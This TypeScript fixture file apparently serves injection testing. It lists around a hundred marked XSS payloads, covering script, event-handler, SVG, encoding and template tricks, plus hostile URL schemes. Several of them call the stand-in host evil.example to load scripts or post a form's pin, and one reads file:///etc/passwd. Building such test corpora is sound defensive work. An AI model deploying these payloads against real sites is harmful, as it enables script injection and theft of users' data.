/** The host of all hostile URLs: a name that doesn't resolve. */
export const EVIL_HOST = 'evil.example'

/** The mark by which a payload is found again wherever it ended up. */
const markOf = (number: number): string => `p${number}p`

/** Ways to inject scripts, elements, URLs or code into a page through text, one per line. */
const SHAPES: ((mark: string) => string)[] = [
  (p) => `<script>alert('${p}')</script>`,
  (p) => `<ScRiPt src=//evil.example/${p}></sCrIpT>`,
  (p) => `<script/x>alert('${p}')</script\t>`,
  (p) => `<scr<script>ipt>alert('${p}')</scr</script>ipt>`,
  (p) => `"><script>alert('${p}')</script>`,
  (p) => `'><script>alert('${p}')</script>`,
  (p) => `</title><script>alert('${p}')</script>`,
  (p) => `</style><script>alert('${p}')</script>`,
  (p) => `</textarea><script>alert('${p}')</script>`,
  (p) => `]]><script>alert('${p}')</script>`,
  (p) => `--><script>alert('${p}')</script>`,
  (p) => `<img src=x onerror=alert('${p}')>`,
  (p) => `<IMG SRC=x ONERROR="alert('${p}')">`,
  (p) => `<img src=x onerror=alert\`${p}\`>`,
  (p) => `<img/src/onerror=alert('${p}')>`,
  (p) => `<img src='x'onerror='alert("${p}")'`,
  (p) => `<img src=//evil.example/${p}>`,
  (p) => `<img srcset="//evil.example/${p} 1x">`,
  (p) => `<image src=x onerror=alert('${p}')>`,
  (p) => `<img src=x:${p} onerror=eval(src)>`,
  (p) => `"><img src=x onerror=alert('${p}')>`,
  (p) => `'"><img src=x onerror=alert('${p}')//`,
  (p) => `" onmouseover="alert('${p}')" x="`,
  (p) => `' onfocus='alert("${p}")' autofocus x='`,
  (p) => `\` onclick=\`alert('${p}')\``,
  (p) => `<svg onload=alert('${p}')>`,
  (p) => `<svg/onload=alert('${p}')//`,
  (p) => `<svg><script>alert('${p}')</script></svg>`,
  (p) => `<svg><script href=data:,alert('${p}') />`,
  (p) => `<svg><animate onbegin=alert('${p}') attributeName=x dur=1s>`,
  (p) => `<svg><set onbegin=alert('${p}') attributename=x>`,
  (p) => `<svg><a xlink:href="javascript:alert('${p}')"><text>${p}</text></a>`,
  (p) => `<svg><foreignObject><body onload=alert('${p}')>`,
  (p) => `<svg><use href="data:image/svg+xml,${p}#x">`,
  (p) => `<svg><image href=x onerror=alert('${p}')>`,
  (p) => `<svg><style><img src=x onerror=alert('${p}')></style>`,
  (p) => `<math><mtext><style><img src=x onerror=alert('${p}')>`,
  (p) => `<math href="javascript:alert('${p}')">${p}</math>`,
  (p) => `<body onload=alert('${p}')>`,
  (p) => `<body onpageshow=alert('${p}')>`,
  (p) => `<iframe src="javascript:alert('${p}')">`,
  (p) => `<iframe srcdoc="<script>parent.alert('${p}')</script>">`,
  (p) => `<iframe onload=alert('${p}')>`,
  (p) => `<iframe src=//evil.example/${p}>`,
  (p) => `<frameset onload=alert('${p}')>`,
  (p) => `<object data="javascript:alert('${p}')">`,
  (p) => `<object data=//evil.example/${p}.swf>`,
  (p) => `<embed src="javascript:alert('${p}')">`,
  (p) => `<embed src=//evil.example/${p}>`,
  (p) => `<base href=//evil.example/${p}/>`,
  (p) => `<meta http-equiv=refresh content="0;url=//evil.example/${p}">`,
  (p) => `<meta http-equiv=set-cookie content="${p}=1">`,
  (p) => `<link rel=stylesheet href=//evil.example/${p}.css>`,
  (p) => `<link rel=import href=//evil.example/${p}>`,
  (p) => `<style>@import '//evil.example/${p}.css'</style>`,
  (p) => `<style>*{background:url(//evil.example/${p})}</style>`,
  (p) => `<div style="background:url(//evil.example/${p})">`,
  (p) => `<div style="width:expression(alert('${p}'))">`,
  (p) => `<p style=position:fixed;inset:0>${p}</p>`,
  (p) => `<form action=//evil.example/${p}><input name=pin autofocus>`,
  (p) => `<button formaction="javascript:alert('${p}')">${p}</button>`,
  (p) => `<input onfocus=alert('${p}') autofocus>`,
  (p) => `<select onfocus=alert('${p}') autofocus>`,
  (p) => `<keygen autofocus onfocus=alert('${p}')>`,
  (p) => `<video src=x onerror=alert('${p}')>`,
  (p) => `<video><source onerror=alert('${p}')>`,
  (p) => `<audio src=x onerror=alert('${p}')>`,
  (p) => `<video poster=//evil.example/${p}>`,
  (p) => `<details open ontoggle=alert('${p}')>`,
  (p) => `<marquee onstart=alert('${p}')>${p}</marquee>`,
  (p) => `<dialog open onclose=alert('${p}')>`,
  (p) => `<x-hostile onclick=alert('${p}')>${p}</x-hostile>`,
  (p) => `<x-hostile tabindex=1 onfocus=alert('${p}') autofocus>`,
  (p) => `<x-hostile onanimationstart=alert('${p}') style=animation:x>`,
  (p) => `<a href="javascript:alert('${p}')">${p}</a>`,
  (p) => `<a href="jav&#x09;ascript:alert('${p}')">${p}</a>`,
  (p) => `<a href="data:text/html,<script>alert('${p}')</script>">${p}</a>`,
  (p) => `<a href=//evil.example/${p} ping=//evil.example/${p}>${p}</a>`,
  (p) => `<area href="javascript:alert('${p}')">`,
  (p) => `<template><img src=x onerror=alert('${p}')></template>`,
  (p) => `<template shadowrootmode=open><script>alert('${p}')</script>`,
  (p) => `<noscript><p title="</noscript><img src=x onerror=alert('${p}')>">`,
  (p) => `<!--><img src=x onerror=alert('${p}')>-->`,
  (p) => `<![CDATA[<img src=x onerror=alert('${p}')>]]>`,
  (p) => `<?xml-stylesheet href="javascript:alert('${p}')"?>`,
  (p) => `<br><img src=x onerror=alert('${p}')><br/>`,
  (p) => `<br onclick=alert('${p}')>${p}`,
  (p) => `&lt;img src=x onerror=alert('${p}')&gt;`,
  (p) => `&#60;img src=x onerror=alert('${p}')&#62;`,
  (p) => `%3Cimg%20src=x%20onerror=alert('${p}')%3E`,
  (p) => `\\u003cimg src=x onerror=alert('${p}')\\u003e`,
  (p) => `\u{FF1C}img src=x onerror=alert('${p}')\u{FF1E}`,
  (p) => `\u202E<img src=x onerror=alert('${p}')>\u202C`,
  (p) => `<img \u0000src=x onerror=alert('${p}')>`,
  (p) => `javascript:alert('${p}')`,
  (p) => `vbscript:msgbox("${p}")`,
  (p) => `data:text/html,<script>alert('${p}')</script>`,
  (p) => `{{constructor.constructor("alert('${p}')")()}}`,
  (p) => `\${alert('${p}')}#{alert('${p}')}<%= alert('${p}') %>`,
  (p) => `';alert('${p}');//";alert('${p}');//`,
]

export const PAYLOADS: readonly string[] = SHAPES.map((shape, number) => shape(markOf(number)))

/** The maximum length of text that the provider's shortest text fields keep. */
const MAX_GROUP = 290

/** The payloads, packed into as few strings as possible. */
export const GROUPS: readonly string[] = PAYLOADS.reduce<string[]>((groups, payload) => {
  const last = groups.at(-1)
  if (last === undefined || Array.from(`${last} ${payload}`).length > MAX_GROUP) return [...groups, payload]
  return [...groups.slice(0, -1), `${last} ${payload}`]
}, [])

/** Payloads that fit into an id, an alias or a page name: longer ones are unreadable. */
const SHORT_PAYLOADS = PAYLOADS.filter((payload) => payload.length <= 90)

/** The id of a hostile tile: for the payloads of `group`, with the action of this `kind`. */
export const hostileId = (group: number, kind: number): string => `${shortPayload(group, kind)} ${group} ${kind}`
export const shortPayload = (group: number, kind: number): string =>
  SHORT_PAYLOADS[(group * 8 + kind) % SHORT_PAYLOADS.length]!

export const marksIn = (text: string): number[] => [...text.matchAll(/p(\d+)p/g)].map(([, number]) => Number(number))

/** URLs that are neither a picture nor a link for a customer, each with a mark. */
export const ADDRESSES: readonly string[] = [
  (p: string) => `javascript:alert('${p}')`,
  (p: string) => `JaVaScRiPt:alert('${p}')`,
  (p: string) => ` javascript:alert('${p}')`,
  (p: string) => `java\nscript:alert('${p}')`,
  (p: string) => `\u0001javascript:alert('${p}')`,
  (p: string) => `javascript://evil.example/%0aalert('${p}')`,
  (p: string) => `data:text/html,<script>alert('${p}')</script>`,
  (p: string) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload="alert('${p}')"/>`,
  (p: string) => `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#${p}`,
  (p: string) => `blob:https://evil.example/${p}`,
  (p: string) => `file:///etc/passwd?${p}`,
  (p: string) => `filesystem:https://evil.example/${p}`,
  (p: string) => `view-source:https://evil.example/${p}`,
  (p: string) => `vbscript:msgbox('${p}')`,
  (p: string) => `intent://evil.example/${p}#Intent;scheme=https;end`,
  (p: string) => `about:blank#${p}`,
  (p: string) => `ftp://evil.example/${p}`,
  (p: string) => `http://evil.example/${p}`,
  (p: string) => `//evil.example/${p}`,
  (p: string) => `\\\\evil.example\\${p}`,
  (p: string) => `https://user:${p}@evil.example/`,
  (p: string) => `https://evil.example\u202E/${p}`,
  (p: string) => `x" onerror="alert('${p}')`,
  (p: string) => `'><img src=x onerror=alert('${p}')>`,
].map((shape, number) => shape(markOf(number)))
